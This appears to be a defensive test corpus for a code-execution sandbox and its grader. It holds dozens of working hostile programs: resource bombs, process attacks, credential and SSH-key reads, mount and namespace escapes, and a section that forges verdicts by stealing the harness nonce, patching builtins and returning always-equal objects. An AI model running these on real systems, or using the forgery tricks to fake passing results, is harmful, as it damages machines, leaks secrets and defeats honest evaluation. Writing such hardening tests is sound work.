"""Hostile programs as text: tests/campaign/hostile.py runs them inside a sandbox, and nothing else runs them.

Each has a name, the effect of a breach, and its source. The source defines `attack(place)`, which may return words: a
word that starts with BREACH reports a success that is not visible from outside. WRONG on stderr reports a program that
is itself faulty and shows nothing. `place` describes the outside: port, udp, abstract, socket, secret (a path), pid,
marks (folders), mark (a name), seccomp, and proc: whether a program sees its own processes in /proc, and so may write
its own memory. Programs that forge a verdict define `answer(n)` too; the expected answer is not in this file, and no
program computes it.

System call numbers are those of x86-64. Calls that would damage a machine have arguments that the kernel rejects after
checking permissions, so that even a success does no damage.
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Hostile:
    """A program and the effect of its success."""

    name: str
    breach: str
    source: str


PRELUDE = '''
import ctypes, os, signal, socket, struct, sys, threading, time
libc = ctypes.CDLL(None, use_errno=True)
won = []
def tries(what, do):
    """Record a success: a result of do() without an exception, unless it is False or negative."""
    try:
        got = do()
    except OSError:
        return None
    except (NameError, TypeError, AttributeError, LookupError, struct.error, ctypes.ArgumentError) as problem:
        os.write(2, ("WRONG " + what + " " + repr(problem)[:100] + "\\n").encode())
        return None
    except BaseException:
        return None
    if got is False or (type(got) is int and got < 0):
        return None
    word = "BREACH " + what + " " + repr(got)[:200]
    os.write(2, (word + "\\n").encode())
    won.append(word)
    return got
def call(number, *args):
    return libc.syscall(ctypes.c_long(number), *[ctypes.c_long(a) if type(a) is int else a for a in args])
def read(path):
    with open(path, "rb") as stream:
        return stream.read(4000).decode("latin-1")
def attack(place):
    return won
'''
TABLE: list[Hostile] = []


def _add(name: str, breach: str, source: str) -> None:
    TABLE.append(Hostile(name, breach, PRELUDE + source))


LISTENER = "a listener outside hears from it"

_add("tcp to the loopback", LISTENER, '''
def attack(place):
    tries("tcp", lambda: socket.create_connection(("127.0.0.1", place["port"]), 1).send(b"x"))
    return won
''')  # fmt: skip
_add("tcp by a system call of its own", LISTENER, '''
def attack(place):
    fd = call(41, 2, 1, 0)
    where = struct.pack("<H", 2) + struct.pack(">H", place["port"]) + bytes([127, 0, 0, 1]) + bytes(8)
    tries("socket", lambda: fd)
    tries("connect", lambda: call(42, fd, where, 16))
    return won
''')  # fmt: skip
_add("udp to the loopback", LISTENER, '''
def attack(place):
    tries("udp", lambda: socket.socket(2, 2).sendto(b"x", ("127.0.0.1", place["udp"])))
    return won
''')  # fmt: skip
_add("the internet", "an address outside answers", '''
def attack(place):
    for where in (("1.1.1.1", 53), ("169.254.169.254", 80), ("10.0.0.1", 80), ("172.17.0.1", 80)):
        tries(where[0], lambda: socket.create_connection(where, 0.2).fileno())
    tries("name", lambda: socket.getaddrinfo("example.org", 80))
    return won
''')  # fmt: skip
_add("a unix socket by its path", LISTENER, '''
def attack(place):
    tries("unix", lambda: socket.socket(1, 1).connect(place["socket"]) or 1)
    for path in ("/var/run/docker.sock", "/run/dbus/system_bus_socket", "/run/systemd/private"):
        tries(path, lambda: socket.socket(1, 1).connect(path) or 1)
    return won
''')  # fmt: skip
_add("an abstract unix socket", LISTENER, '''
def attack(place):
    tries("abstract", lambda: socket.socket(1, 1).connect("\\0" + place["abstract"]) or 1)
    return won
''')  # fmt: skip
_add("an abstract socket through a pair", LISTENER, '''
def attack(place):
    one, two = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    tries("sendto", lambda: one.sendto(b"x", "\\0" + place["abstract"] + "-datagrams"))
    tries("sendmsg", lambda: two.sendmsg([b"x"], [], 0, "\\0" + place["abstract"] + "-datagrams"))
    tries("sendto a path", lambda: one.sendto(b"x", place["socket"]))
    return won
''')  # fmt: skip
_add("netlink, raw and packet sockets", "a socket is made", '''
def attack(place):
    for family, kind, protocol in ((16, 3, 0), (2, 3, 1), (17, 3, 3), (40, 1, 0), (38, 5, 0), (31, 3, 0)):
        if place["seccomp"] or family == 17:
            tries("family %d" % family, lambda: socket.socket(family, kind, protocol).fileno())
    return won
''')  # fmt: skip
_add("a listener of its own", "the machine's port is taken", '''
def attack(place):
    def serve():
        door = socket.socket(2, 1)
        door.bind(("0.0.0.0", place["port"] + 1))
        door.listen()
        return 1
    tries("listen", serve if place["seccomp"] else (lambda: False))
    return won
''')  # fmt: skip
_add("system calls of the x32 kind", "a socket is made", '''
def attack(place):
    tries("x32 socket", lambda: call(0x40000000 + 41, 2, 1, 0))
    return won
''')  # fmt: skip
_add("system calls of the 32 bit kind", "a socket is made", '''
import mmap
def attack(place):
    page = mmap.mmap(-1, 4096, prot=7)
    # push rbx; mov eax, 359 (socket); mov ebx, 2; mov ecx, 1; xor edx, edx; int 0x80; pop rbx; ret
    page.write(bytes.fromhex("53b867010000bb02000000b90100000031d2cd805bc3"))
    where = ctypes.addressof(ctypes.c_char.from_buffer(page))
    got = ctypes.CFUNCTYPE(ctypes.c_int)(where)()
    tries("int 0x80", lambda: got if place["seccomp"] else False)
    return won
''')  # fmt: skip

ALIVE = "processes stay, or the machine has no room for others"

_add("a fork bomb", ALIVE, '''
def attack(place):
    while True:
        try:
            os.fork()
        except OSError:
            pass
''')  # fmt: skip
_add("a fork bomb that runs away", ALIVE, '''
def attack(place):
    while True:
        try:
            if os.fork():
                os._exit(0)
            os.setsid()
        except OSError:
            pass
''')  # fmt: skip
_add("a thread bomb", ALIVE, '''
def attack(place):
    count = 0
    while count < 10000:
        try:
            threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
            count += 1
        except RuntimeError:
            break
    return ["BREACH %d threads" % count] if count > 64 else []
''')  # fmt: skip
_add("a daemon that survives", "a process is there after the end", '''
def attack(place):
    if not os.fork():
        os.setsid()
        if not os.fork():
            for fd in range(64):
                try:
                    os.close(fd)
                except OSError:
                    pass
            while True:
                time.sleep(0.1)
        os._exit(0)
    return []
''')  # fmt: skip
_add("children that hold the pipes", "the parent waits forever", '''
def attack(place):
    for _ in range(5):
        if not os.fork():
            os.setsid()
            time.sleep(3600)
    os._exit(0)
''')  # fmt: skip
_add("deaf to every signal", "it is not ended in time", '''
def attack(place):
    for number in range(1, 65):
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    while True:
        pass
''')  # fmt: skip
_add("stops itself and its family", "it is not ended in time", '''
def attack(place):
    if not os.fork():
        time.sleep(0.1)
        os.kill(os.getppid(), signal.SIGSTOP)
        os.kill(0, signal.SIGSTOP)
    os.kill(os.getpid(), signal.SIGSTOP)
''')  # fmt: skip
_add("kills every process", "something outside dies", '''
def attack(place):
    os.kill(-1, signal.SIGKILL)
    return won
''')  # fmt: skip
_add("kills process 1", "something outside dies", '''
def attack(place):
    for number in (signal.SIGKILL, signal.SIGTERM, signal.SIGSEGV, signal.SIGSTOP):
        os.kill(1, number)
    return won
''')  # fmt: skip
_add("signals to the parent by its number", "the parent hears a signal", '''
def attack(place):
    for pid in (place["pid"], os.getppid()):
        for number in (signal.SIGUSR1, signal.SIGHUP):
            try:
                os.kill(pid, number)
            except OSError:
                pass
    try:
        os.killpg(place["pid"], signal.SIGUSR1)
    except OSError:
        pass
    return won
''')  # fmt: skip
_add("a signal to the owner of its pipes", "the parent hears a signal", '''
import fcntl
def attack(place):
    for fd in range(64):
        for who in (place["pid"], 1):
            try:
                fcntl.fcntl(fd, fcntl.F_SETOWN, who)
                fcntl.fcntl(fd, fcntl.F_SETFL, fcntl.fcntl(fd, fcntl.F_GETFL) | os.O_ASYNC)
            except OSError:
                pass
    os.write(2, b"hello")
    return won
''')  # fmt: skip
_add("ptrace", "another process is held", '''
def attack(place):
    for pid in (1, place["pid"], os.getppid() or 1):
        tries("seize %d" % pid, lambda: call(101, 0x4206, pid, 0, 0) if pid != os.getpid() else False)
        tries("attach %d" % pid, lambda: call(101, 16, pid, 0, 0) if pid != os.getpid() else False)
    return won
''')  # fmt: skip
_add("another process's memory", "bytes of the parent are read", '''
def attack(place):
    room = ctypes.create_string_buffer(64)
    local = struct.pack("QQ", ctypes.addressof(room), 64)
    for pid in (1, place["pid"]):
        remote = struct.pack("QQ", 0x400000, 64)
        tries("read %d" % pid, lambda: call(310, pid, local, 1, remote, 1, 0))
        tries("write %d" % pid, lambda: call(311, pid, local, 1, remote, 1, 0))
        tries("mem %d" % pid, lambda: open("/proc/%d/mem" % pid, "rb").fileno() if pid != os.getpid() else False)
    return won
''')  # fmt: skip
_add("a handle out of another process", "a file of the parent is open", '''
def attack(place):
    for pid in (1, place["pid"]):
        held = call(434, pid, 0)
        for fd in range(30):
            tries("fd %d of %d" % (fd, pid), lambda: call(438, held, fd, 0) if held >= 0 else False)
    return won
''')  # fmt: skip

MEMORY = "the machine's memory goes"

_add("a memory bomb", MEMORY, '''
def attack(place):
    held = []
    while True:
        held.append(bytearray(b"x" * 2 ** 24))
''')  # fmt: skip
_add("memory bombs in many children", MEMORY, '''
def attack(place):
    for _ in range(12):
        try:
            if not os.fork():
                break
        except OSError:
            pass
    held = []
    while True:
        try:
            held.append(bytearray(b"x" * 2 ** 23))
        except MemoryError:
            time.sleep(0.01)
''')  # fmt: skip
_add("shared memory in many children", MEMORY, '''
import mmap
def attack(place):
    for _ in range(12):
        try:
            if not os.fork():
                break
        except OSError:
            pass
    held = []
    while True:
        try:
            held.append(mmap.mmap(-1, 2 ** 23))
            for at in range(0, 2 ** 23, 4096):
                held[-1][at] = 1
        except (OSError, MemoryError):
            time.sleep(0.01)
''')  # fmt: skip
_add("files in memory", MEMORY, '''
def attack(place):
    fds = [os.memfd_create("x") for _ in range(20)]
    block = bytes(2 ** 20)
    while True:
        for fd in fds:
            try:
                os.write(fd, block)
            except OSError:
                pass
''')  # fmt: skip
_add("System V shared memory", "a segment stays", '''
def attack(place):
    if place["seccomp"]:
        tries("shmget", lambda: call(29, 4711, 2 ** 26, 0o1666))
    for _ in range(30):
        call(29, 0, 2 ** 26, 0o1666)
    return won
''')  # fmt: skip
_add("full pipes", MEMORY, '''
import fcntl
def attack(place):
    held = []
    try:
        while True:
            one, two = os.pipe()
            held.append((one, two))
            try:
                fcntl.fcntl(two, 1031, 2 ** 20)
            except OSError:
                pass
            os.set_blocking(two, False)
            try:
                while True:
                    os.write(two, bytes(65536))
            except BlockingIOError:
                pass
    except OSError:
        return won
''')  # fmt: skip
_add("locked memory", "memory is locked", '''
def attack(place):
    tries("mlockall", lambda: call(151, 3))
    return won
''')  # fmt: skip
_add("fills every folder", "the disk fills", '''
def attack(place):
    total = 0
    for folder in ("/tmp", "/home", "/dev/shm", "/dev", "/", "/var/tmp", "/etc", "/python/lib", "."):
        for n in range(40):
            try:
                with open("%s/fill-%d" % (folder, n), "wb") as stream:
                    while total < 2 ** 31:
                        total += stream.write(bytes(2 ** 20))
            except OSError:
                pass
    return ["BREACH wrote %d" % total] if total > 2 ** 27 else []
''')  # fmt: skip
_add("a big sparse file", "a file of a terabyte", '''
def attack(place):
    for folder in ("/tmp", "/home", "."):
        def grow():
            with open(folder + "/sparse", "wb") as stream:
                return stream.truncate(2 ** 40)
        tries("truncate", grow)
        tries("seek", lambda: os.posix_fallocate(os.open(folder + "/big", os.O_CREAT | os.O_RDWR), 0, 2 ** 36) or 1)
    return won
''')  # fmt: skip
_add("a million empty files", MEMORY, '''
def attack(place):
    n = 0
    while True:
        os.close(os.open("/tmp/%d" % n, os.O_CREAT))
        n += 1
''')  # fmt: skip
_add("folders without bottom", "the time it takes to remove them", '''
def attack(place):
    while True:
        os.mkdir("/tmp/d") if os.getcwd() == "/home" else os.mkdir("d")
        os.chdir("/tmp/d" if os.getcwd() == "/home" else "d")
''')  # fmt: skip

SECRET = "a planted secret comes out"

_add("reads the secret by its path", SECRET, '''
def attack(place):
    found = []
    paths = (place["secret"], "/proc/self/root" + place["secret"], "../../../.." + place["secret"],
             "/proc/1/root" + place["secret"], "/proc/%d/root" % place["pid"] + place["secret"])
    for path in paths:
        try:
            found.append(read(path))
        except OSError:
            pass
    return found
''')  # fmt: skip
_add("reads what every machine has", "a file of the machine comes out", '''
def attack(place):
    for path in ("/etc/passwd", "/etc/shadow", "/etc/hostname", "/etc/machine-id", "/root/.bashrc", "/root/.ssh/id_rsa",
                 "/var/run/secrets/kubernetes.io/serviceaccount/token", "/.dockerenv", "/proc/kcore", "/proc/kallsyms",
                 "/proc/cmdline", "/sys/kernel/notes", "/dev/mem", "/dev/vda", "/dev/sda", "/dev/kmsg"):
        tries(path, lambda: read(path) or False)  # an empty one stands where something is hidden
    return won
''')  # fmt: skip
_add("environments", SECRET, '''
def attack(place):
    found = [dict(os.environ)]
    for pid in ("self", "1", str(place["pid"]), str(os.getppid())):
        for name in ("environ", "cmdline"):
            try:
                found.append(read("/proc/%s/%s" % (pid, name)))
            except OSError:
                pass
    start = ctypes.POINTER(ctypes.c_char_p).in_dll(libc, "environ")
    n = 0
    while start[n]:
        found.append(start[n].decode("latin-1"))
        n += 1
    return found
''')  # fmt: skip
_add("every handle that it inherited", SECRET, '''
def attack(place):
    found = []
    for fd in range(1024):
        try:
            found.append(os.fstat(fd).st_mode)
            os.lseek(fd, 0, 0)
            found.append(os.pread(fd, 4000, 0).decode("latin-1"))
        except OSError:
            pass
        tries("folder %d" % fd, lambda: os.listdir(fd))
        tries("up from %d" % fd, lambda: os.open("../../../../etc", os.O_RDONLY, dir_fd=fd) if fd > 2 else False)
    return found + won
''')  # fmt: skip
_add("writes outside", "a file outside", '''
def attack(place):
    for folder in place["marks"] + ["/proc/1/root/tmp", "/proc/%d/cwd" % place["pid"], "../../.."]:
        try:
            with open(folder + "/" + place["mark"], "w") as stream:
                stream.write("here")
        except OSError:
            pass
    return won
''')  # fmt: skip
_add("links that lead outside", "a file outside is read or written", '''
def attack(place):
    found = []
    for name in ("/tmp/result", "/tmp/result.json", "/home/out", "/tmp/stdout", "/home/answer"):
        for target in (place["secret"], "/proc/self/fd/1", "/etc/passwd"):
            try:
                os.symlink(target, name)
                found.append(read(name))
                os.unlink(name)
            except OSError:
                pass
        try:
            os.link(place["secret"], name)
            found.append(read(name))
        except OSError:
            pass
        os.symlink(place["secret"], name)
    return found
''')  # fmt: skip
_add("its own memory through /proc", "a mapping that is read only is written", '''
def attack(place):
    def poke():
        with open("/proc/self/mem", "r+b", buffering=0) as stream:
            stream.seek(id(len))
            return stream.write(b"\\0")
    tries("mem", lambda: poke() if place["seccomp"] and not place["proc"] else False)
    return won
''')  # fmt: skip
_add("knobs of the kernel", "a knob is turned", '''
def attack(place):
    for path, value in (("/proc/sys/kernel/hostname", "x"), ("/proc/sysrq-trigger", ""), ("/proc/self/oom_score_adj",
                        "-1000"), ("/sys/fs/cgroup/cgroup.procs", "0"), ("/proc/sys/kernel/core_pattern", "core")):
        def turn():
            with open(path, "r+") as stream:
                return stream.write(value)
        tries(path, turn)
    return won
''')  # fmt: skip
_add("leaves something for the next run", "the next run finds it", '''
def attack(place):
    for folder in ("/tmp", "/home", "/python/lib", "/python/lib/python3.11", "/usr/lib", "/etc", "/dev", "/"):
        path = folder + "/" + place["mark"] + "-left.py"
        if os.path.exists(path):
            won.append("BREACH " + path)
        try:
            open(path, "w").write("left")
        except OSError:
            pass
    return won
''')  # fmt: skip
TABLE.append(Hostile("finds what the last run left", TABLE[-1].breach, TABLE[-1].source))
_add("poisons the standard library", "a later run imports it", '''
def attack(place):
    for path in (json_file := __import__("json").__file__, os.__file__, sys.executable):
        tries(path, lambda: open(path, "r+b").fileno())
        tries("chmod " + path, lambda: os.chmod(path, 0o777) or 1)
        tries("rename " + path, lambda: os.rename(path, path + "x") or 1)
    return won
''')  # fmt: skip

KERNEL = "the kernel grants it"

_add("mounts over /tmp", KERNEL, '''
def attack(place):
    for kind in (b"tmpfs", b"proc", b"sysfs", b"devtmpfs", b"overlay"):
        tries(kind.decode(), lambda: call(165, b"none", b"/tmp", kind, 0, b""))
    tries("bind", lambda: call(165, b"/", b"/tmp", b"", 4096, 0))
    tries("remount", lambda: call(165, b"none", b"/", b"", 32 | 4096, 0))
    tries("umount", lambda: call(166, b"/tmp", 2))
    tries("umount dev", lambda: call(166, b"/dev/null", 2))
    return won
''')  # fmt: skip
_add("mounts by the new calls", KERNEL, '''
def attack(place):
    tries("fsopen", lambda: call(430, b"tmpfs", 0))
    tries("open_tree", lambda: call(428, -100, b"/", 1))
    tries("mount_setattr", lambda: call(442, -100, b"/", 0, bytes(32), 32))
    tries("pivot_root", lambda: call(155, b"/tmp", b"/tmp"))
    return won
''')  # fmt: skip
_add("new namespaces", KERNEL, '''
def attack(place):
    for bit in (0x10000000, 0x20000, 0x40000000, 0x20000000, 0x8000000, 0x4000000, 0x2000000, 0x80):
        tries("unshare %x" % bit, lambda: call(272, bit))
        tries("unshare user and %x" % bit, lambda: call(272, bit | 0x10000000))
    return won
''')  # fmt: skip
_add("clone with a user namespace", KERNEL, '''
def attack(place):
    def clone(flags):
        pid = call(56, flags | 17, 0, 0, 0, 0)
        if pid == 0:
            os._exit(0)
        return pid
    for bit in (0x10000000, 0x20000 | 0x10000000, 0x40000000):
        tries("clone %x" % bit, lambda: clone(bit))
    def clone3():
        pid = call(435, struct.pack("11Q", 0x10000000, 0, 0, 0, 17, 0, 0, 0, 0, 0, 0), 88)
        if pid == 0:
            os._exit(0)
        return pid
    tries("clone3", clone3)
    return won
''')  # fmt: skip
_add("enters other namespaces", KERNEL, '''
def attack(place):
    for pid in (1, place["pid"]):
        held = call(434, pid, 0)
        for bit in (0x20000, 0x40000000, 0x20000000):
            tries("setns by a process", lambda: call(308, held, bit) if held >= 0 else False)
        for kind in ("mnt", "net", "pid", "user"):
            tries(kind, lambda: call(308, os.open("/proc/%d/ns/%s" % (pid, kind), os.O_RDONLY), 0))
    return won
''')  # fmt: skip
_add("leaves by chroot", "the machine's root is seen", '''
def attack(place):
    os.makedirs("/tmp/a/b")
    fd = os.open("/", os.O_RDONLY)
    tries("chroot", lambda: os.chroot("/tmp/a") or 1)
    os.fchdir(fd)
    for _ in range(50):
        os.chdir("..")
    tries("the machine", lambda: os.listdir("work") or os.listdir("var"))
    return won
''')  # fmt: skip
_add("files by their handle", "a file outside is open", '''
def attack(place):
    handle = struct.pack("Ii", 8, 1) + struct.pack("II", 2, 0)
    fd = os.open("/usr/lib", os.O_RDONLY)
    tries("open_by_handle_at", lambda: call(304, fd, handle, os.O_RDONLY))
    tries("name_to_handle_at", lambda: call(303, fd, b"", handle, bytes(8), 0x1000) if place["seccomp"] else False)
    return won
''')  # fmt: skip
_add("devices of its own", "a device is made", '''
import stat
def attack(place):
    for name, mode, device in (("disk", stat.S_IFBLK, (254, 0)), ("disk2", stat.S_IFBLK, (8, 0)),
                               ("mem", stat.S_IFCHR, (1, 1)), ("tty", stat.S_IFCHR, (5, 0))):
        for folder in ("/tmp", "/home", "/dev"):
            path = folder + "/" + name
            tries("mknod " + path, lambda: os.mknod(path, mode | 0o666, os.makedev(*device)) or 1)
    return won
''')  # fmt: skip
_add("becomes root", KERNEL, '''
def attack(place):
    for number in (0, 1000):
        tries("setuid", lambda: os.setuid(number) or 1)
        tries("setresuid", lambda: os.setresuid(number, number, number) or 1)
        tries("setgid", lambda: os.setgid(number) or 1)
        tries("setgroups", lambda: os.setgroups([number]) or 1)
    tries("capset", lambda: call(126, struct.pack("Ii", 0x20080522, 0), struct.pack("6I", *[2 ** 32 - 1] * 6)))
    tries("ambient", lambda: libc.prctl(47, 2, 21, 0, 0))
    return won
''')  # fmt: skip
_add("a setuid program", "a process of another user", '''
def attack(place):
    import stat
    found = []
    for base in ("/usr/bin", "/usr/sbin", "/usr/lib/openssh", "/usr/lib/dbus-1.0", "/usr/lib/polkit-1", "/usr/libexec"):
        for name in os.listdir(base) if os.path.isdir(base) else []:
            path = base + "/" + name
            if os.path.isfile(path) and os.stat(path).st_mode & stat.S_ISUID:
                found.append(path)
                if not os.fork():
                    try:
                        os.execv(path, [path, "-c", "id"])
                    finally:
                        os._exit(1)
    with open("/home/mine", "wb") as stream:
        stream.write(open(sys.executable, "rb").read())
    os.chmod("/home/mine", 0o6755)
    if os.path.exists("/usr/bin/setpriv"):
        one, two = os.pipe()
        if not os.fork():
            os.dup2(two, 1)
            try:
                os.execv("/usr/bin/setpriv", ["setpriv", "--reuid", "0", sys.executable, "-c", "print(1)"])
            finally:
                os._exit(1)
        os.close(two)
        tries("setpriv", lambda: os.read(one, 10) or False)
    return won
''')  # fmt: skip
_add("LD_PRELOAD and the next program", "its library is in a program outside", '''
def attack(place):
    for name in ("LD_PRELOAD", "LD_AUDIT", "PYTHONSTARTUP", "PYTHONPATH", "PYTHONHOME", "BASH_ENV"):
        os.environ[name] = "/tmp/evil.so"
    open("/tmp/evil.so", "wb").write(b"not a library")
    tries("ld.so.preload", lambda: open("/etc/ld.so.preload", "w").fileno())
    os.execv(sys.executable, [sys.executable, "-c", "print('BREACH')"])
''')  # fmt: skip
_add("keyrings", KERNEL, '''
def attack(place):
    if place["seccomp"]:
        tries("add_key", lambda: call(248, b"user", b"academy-hostile", b"x", 1, -3))
        tries("keyctl", lambda: call(250, 0, -3, 1))
        tries("request_key", lambda: call(249, b"user", b"academy-hostile", 0, -3))
    return won
''')  # fmt: skip
_add("io_uring", KERNEL, '''
def attack(place):
    if place["seccomp"]:
        tries("io_uring_setup", lambda: call(425, 4, ctypes.create_string_buffer(240)))
    return won
''')  # fmt: skip
_add("bpf, perf and userfaultfd", KERNEL, '''
def attack(place):
    tries("bpf map", lambda: call(321, 0, struct.pack("5I", 2, 4, 4, 1, 0) + bytes(100), 120))
    if place["seccomp"]:
        tries("perf", lambda: call(298, struct.pack("IIQ", 1, 112, 0) + bytes(96), 0, -1, -1, 0))
        tries("userfaultfd", lambda: call(323, 1))
    return won
''')  # fmt: skip
_add("modules, kexec, reboot and the clock", KERNEL, '''
def attack(place):
    tries("init_module", lambda: call(175, b"", 0, b""))
    tries("finit_module", lambda: call(313, -1, b"", 0))
    tries("kexec_load", lambda: call(246, 0, 0, 0, 0))
    tries("swapon", lambda: call(167, b"/nowhere", 0))
    tries("clock_settime", lambda: call(227, 0, struct.pack("qq", int(time.time()), 0)))
    tries("sethostname", lambda: call(170, b"x", 1))
    tries("syslog", lambda: call(103, 3, ctypes.create_string_buffer(100), 100))
    tries("acct", lambda: call(163, 0))
    wrong = (1, 2, 3, 0)  # a reboot with wrong magic numbers: EPERM comes first, EINVAL would tell of the right
    call(169, *wrong)
    if ctypes.get_errno() != 1:
        won.append("BREACH reboot is not refused")
    return won
''')  # fmt: skip
_add("runs a file that is only in memory", "it runs", '''
def attack(place):
    fd = os.memfd_create("x") if not place["seccomp"] else tries("memfd", lambda: os.memfd_create("x"))
    for folder in ("/tmp", "/home"):
        open(folder + "/x", "wb").write(open(sys.executable, "rb").read())
        os.chmod(folder + "/x", 0o755)
    return won
''')  # fmt: skip
_add("words into the terminal", "a command is typed outside", '''
import fcntl
def attack(place):
    for fd in range(16):
        tries("TIOCSTI %d" % fd, lambda: fcntl.ioctl(fd, 0x5412, b"x"))
        tries("again, high bits", lambda: call(16, fd, 0x5412 | 1 << 40, b"x"))
    tries("tty", lambda: os.open("/dev/tty", os.O_RDWR))
    tries("ptmx", lambda: os.open("/dev/ptmx", os.O_RDWR))
    os.write(2, b"\\x1b]0;BREA" + b"CH\\x07\\x1b[2J")
    return won
''')  # fmt: skip
_add("personality and priorities", KERNEL, '''
def attack(place):
    if place["seccomp"]:
        tries("personality", lambda: call(135, 0x40000))
    tries("nice", lambda: os.nice(-10) < 0)
    tries("real time", lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(10)) or 1)
    import resource
    for kind in (resource.RLIMIT_AS, resource.RLIMIT_NPROC, resource.RLIMIT_FSIZE, resource.RLIMIT_NOFILE):
        tries("limit %d" % kind, lambda: resource.setrlimit(kind, (-1, -1)) or 1)
    return won
''')  # fmt: skip

FORGED = "the grader receives a right answer that was not computed"
NONCE = '''
def held():
    """The harness's frame: its nonce and its channel."""
    frame = sys._getframe()
    while "channel" not in frame.f_locals:
        frame = frame.f_back
    return frame.f_locals["nonce"], frame.f_locals["channel"]
def line(nonce, values, ended="done"):
    import json
    return ("%s %s\\n" % (nonce, json.dumps({"ended": ended, "values": values}))).encode()
ONE = {"kind": "value", "value": 1}
'''

_add("guessed lines on every handle", FORGED, '''
def attack(place):
    for fd in range(64):
        for text in (b"PASS\\n", b'{"ended": "done", "values": [1, 1, 1]}\\n', b"0 ready\\n", b"\\n"):
            try:
                os.write(fd, text)
            except OSError:
                pass
    return won
def answer(n): return True
''')  # fmt: skip
_add("takes the nonce and answers early", FORGED, NONCE + '''
def attack(place):
    nonce, channel = held()
    os.write(channel, line(nonce, [ONE, ONE, ONE]))
    os._exit(0)
''')  # fmt: skip
_add("answers twice", FORGED, NONCE + '''
def attack(place):
    nonce, channel = held()
    os.write(channel, line(nonce, [ONE, ONE, ONE]))
    return won
def answer(n): return 1
''')  # fmt: skip
_add("answers after the end", FORGED, NONCE + '''
def attack(place):
    nonce, channel = held()
    if not os.fork():
        os.setsid()
        time.sleep(0.3)
        os.write(channel, line(nonce, [ONE, ONE, ONE]))
        os._exit(0)
    return won
def answer(n): return 1
''')  # fmt: skip
_add("answers while the harness does", FORGED, NONCE + '''
def attack(place):
    nonce, channel = held()
    def flood():
        while True:
            os.write(channel, line(nonce, [ONE, ONE, ONE])[:40])
    for _ in range(4):
        threading.Thread(target=flood, daemon=True).start()
    return won
def answer(n): return 1
''')  # fmt: skip
_add("an end of its own invention", FORGED, NONCE + '''
def attack(place):
    nonce, channel = held()
    os.write(channel, line(nonce, [{"kind": "value", "value": 1, "score": 100}] * 3, "passed"))
    os._exit(0)
''')  # fmt: skip
_add("an answer that is too large", "the parent's memory goes", NONCE + '''
def attack(place):
    nonce, channel = held()
    os.write(channel, nonce.encode() + b" ")
    while True:
        os.write(channel, b"[" * 65536)
''')  # fmt: skip
_add("an answer that is too deep", "the parent fails", NONCE + '''
def attack(place):
    nonce, channel = held()
    os.write(channel, nonce.encode() + b' {"ended": "done", "values": ' + b"[" * 30000 + b"]" * 30000 + b"}\\n")
    os._exit(0)
''')  # fmt: skip
_add("an answer with a number of a million digits", "the parent is busy with it", NONCE + '''
def attack(place):
    nonce, channel = held()
    os.write(channel, nonce.encode() + b' {"ended": "done", "values": [' + b"9" * 60000 + b"]}\\n")
    os._exit(0)
''')  # fmt: skip
_add("an answer of wrong bytes", "the parent fails", NONCE + '''
def attack(place):
    nonce, channel = held()
    os.write(channel, nonce.encode() + b" \\xff\\xfe\\0" + bytes(range(256)).replace(b"\\n", b"") + b"\\n")
    os._exit(0)
''')  # fmt: skip
_add("another json", FORGED, '''
import json
def attack(place):
    json.dumps = lambda *a, **k: '{"ended": "done", "values": [{"kind": "value", "value": 1}]}'
    json.loads = lambda *a, **k: [1]
    return won
def answer(n): return 1
''')  # fmt: skip
_add("other builtins", FORGED, '''
import builtins
def attack(place):
    builtins.type = lambda *a: int
    builtins.len = lambda *a: 1
    builtins.any = builtins.all = lambda *a: True
    builtins.isinstance = lambda *a: True
    return won
def answer(n): return object()
''')  # fmt: skip
_add("another harness", FORGED, '''
def attack(place):
    main = sys.modules["__main__"]
    main.plain = lambda *a: True
    main._run = main._write = lambda *a: None
    return won
class Yes(dict):
    def __eq__(self, other): return True
    __hash__ = None
def answer(n): return Yes(a=1)
''')  # fmt: skip
_add("objects that equal everything", FORGED, '''
class Yes:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __hash__(self): return 0
    def __str__(self): return "1"
    def __getattr__(self, name): return self
def answer(n): return Yes()
''')  # fmt: skip
_add("numbers and words of its own kind", FORGED, '''
class Number(int):
    def __eq__(self, other): return True
    __hash__ = int.__hash__
    def __repr__(self): return "1, 2"
class Word(str):
    def __eq__(self, other): return True
    __hash__ = str.__hash__
class Dict(dict):
    def __eq__(self, other): return True
    def items(self): return []
def answer(n): return [Number(1), {Word("a"): 1}, Dict()]
''')  # fmt: skip
_add("true, one, and words of praise", FORGED, '''
def attack(place): return True
def answer(n): return True if n % 2 else "PASS"
''')  # fmt: skip
_add("a generator without end", "it never ends", '''
def answer(n):
    while True:
        yield n
''')  # fmt: skip
_add("huge whole numbers", "it never ends", '''
def attack(place): return 1 << 10 ** 8
def answer(n): return 10 ** 4300
''')  # fmt: skip
_add("huge words", "the parent's memory goes", '''
def attack(place): return "x" * 10 ** 8
def answer(n): return ["x" * 10 ** 4] * 1000
''')  # fmt: skip
_add("deep and circular lists", "the parent fails", '''
def attack(place):
    made = []
    for _ in range(10 ** 5): made = [made]
    return made
def answer(n):
    made = {}
    made["again"] = made
    return made
''')  # fmt: skip
_add("no number, and infinite ones", FORGED, '''
def attack(place): return [float("nan"), float("inf"), -float("inf")]
def answer(n): return {"x": float("nan")}
''')  # fmt: skip
_add("looks for what is expected", FORGED, '''
import gc
def answer(n):
    found = []
    frame = sys._getframe()
    while frame:
        found += [repr(value)[:500] for value in frame.f_locals.values() if type(value) in (int, str, list, dict)]
        frame = frame.f_back
    for one in gc.get_objects():
        if type(one) is dict and "expected" in one:
            return one["expected"]
    return found[:50]
''')  # fmt: skip
_add("a flood on stdout", "the parent's memory goes", '''
def attack(place):
    while True:
        print("x" * 10 ** 6)
''')  # fmt: skip
_add("a flood on stderr", "the parent's memory goes", '''
def attack(place):
    while True:
        sys.stderr.write("x" * 10 ** 6)
''')  # fmt: skip
_add("a flood on every handle", "the parent's memory goes", '''
def attack(place):
    while True:
        for fd in range(64):
            try:
                os.write(fd, b"x" * 65536)
            except OSError:
                pass
''')  # fmt: skip
_add("floods by many children", "the parent's memory goes", '''
def attack(place):
    for _ in range(8):
        os.fork()
    while True:
        os.write(2, b"x" * 65536)
''')  # fmt: skip
_add("sys.exit with a good code", FORGED, "\nsys.exit(0)\n")
